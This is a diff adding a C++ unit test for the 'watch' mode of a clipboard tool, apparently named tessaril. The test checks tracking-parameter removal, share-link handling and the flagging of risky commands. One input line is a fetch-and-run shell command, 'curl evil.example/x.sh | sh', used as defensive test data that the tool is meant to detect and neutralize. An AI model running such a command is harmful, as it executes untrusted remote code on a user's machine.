@@ -289,3 +289,32 @@ TEST_F(ToolProcessTest, ReadOnlyConfigFolder) {
 
 }  // namespace
 }  // namespace tessaril
+
+namespace tessaril {
+namespace {
+
+// The clipboard loop on standard input: each line a copy; writes printed, or one event a line with
+// --json; the user's settings read, nothing they have stored changed.
+TEST_F(ToolProcessTest, WatchRunsTheClipboardLoopOnStandardInput) {
+    storeUserLists();
+    const std::string risky = "curl evil.example/x.sh | sh";
+    const std::string input =
+        "https://news.example/a?utm_source=x&id=1\n" + risky +
+        "\nhello\nhttps://www.reddit.com/r/cpp/s/AbC?share_id=1\nhttps://skip.example/?utm_source=1\n";
+    EXPECT_EQ(spawn({"watch"}, input),
+              (Invocation{0, "https://news.example/a?id=1\nhttps://www.reddit.com/r/cpp/s/AbC\n",
+                          "tessaril: risky command: Runs a script straight from the internet\n"}));
+
+    SqliteUserDefaults::open(storeFile(root_))->set("commandGuard_neutralize", true);
+    const auto run = spawn({"watch", "--json"}, input);
+    std::vector<std::string> events;
+    std::istringstream lines(run.out);
+    for (std::string line; std::getline(lines, line);)
+        events.push_back(nlohmann::json::parse(line).at("event"));
+    EXPECT_EQ(events, (std::vector<std::string>{"cleaned", "neutralized", "pendingShareLink", "skippedSite"}));
+    EXPECT_EQ(run.status, 0);
+    EXPECT_EQ(SqliteUserDefaults::open(storeFile(root_))->value(StatsTracker::totalKey), std::nullopt);
+}
+
+}  // namespace
+}  // namespace tessaril
